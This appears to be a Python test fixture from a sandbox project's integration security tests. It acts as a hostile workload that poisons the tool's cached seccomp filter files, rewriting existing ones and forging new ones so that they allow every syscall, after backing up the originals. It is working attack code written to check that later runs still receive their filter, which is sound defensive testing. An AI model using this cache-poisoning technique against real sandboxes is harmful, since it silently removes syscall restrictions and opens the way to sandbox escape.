"""poison.py UID BACKUP: run inside a sandbox by tests/integration/security.sh
as a hostile workload. Every place where sandboxtime once kept compiled
seccomp programs for later runs ($XDG_CACHE_HOME/sandboxtime,
~/.cache/sandboxtime, /tmp/sandboxtime-UID, /var/cache/sandboxtime: UID is
the user outside the sandbox) gets programs that allow everything, in that
cache's format (magic STSECC3, a 304-byte header, then RET ALLOW): every
seccomp-*.bpf already there keeps its header and has its instructions
replaced (what a real attack on the cache did; its bytes are copied to
BACKUP first, for the test to put back), and two new files are forged.
The run after this one must still get its filter. Prints "wrote N".
"""
import glob
import os
import shutil
import struct
import sys

HEADER = 304
RET_ALLOW = struct.pack("<HBBI", 0x06, 0, 0, 0x7FFF0000)
FORGED = ("seccomp-0000000000000000.bpf", "seccomp-ffffffffffffffff.bpf")


def places(uid):
    out = ["/tmp/sandboxtime-%s" % uid, "/var/cache/sandboxtime"]
    for var, sub in (("XDG_CACHE_HOME", "sandboxtime"), ("HOME", ".cache/sandboxtime")):
        if os.environ.get(var, "").startswith("/"):
            out.append(os.path.join(os.environ[var], sub))
    return out


def forge(path):
    header = b"STSECC3\0" + struct.pack("<QQQQQ", 0, 1, 1, 0, 0) + bytes(256)
    assert len(header) == HEADER
    with open(path, "wb") as f:
        f.write(header + RET_ALLOW)


def rewrite(path, backup):
    with open(path, "rb") as f:
        old = f.read()
    if len(old) < HEADER + 8:
        return 0
    shutil.copyfile(path, os.path.join(backup, path.strip("/").replace("/", "%")))
    with open(path, "wb") as f:
        f.write(old[:HEADER] + RET_ALLOW * ((len(old) - HEADER) // 8))
    return 1


def main():
    uid, backup = sys.argv[1], sys.argv[2]
    wrote = 0
    for d in places(uid):
        try:
            os.makedirs(d, exist_ok=True)
            for f in glob.glob(os.path.join(d, "seccomp-*.bpf")):
                if os.path.basename(f) not in FORGED:
                    wrote += rewrite(f, backup)
            for name in FORGED:
                forge(os.path.join(d, name))
                wrote += 1
        except OSError:
            continue  # a place this workload cannot write
    print("wrote %d" % wrote)


if __name__ == "__main__":
    main()
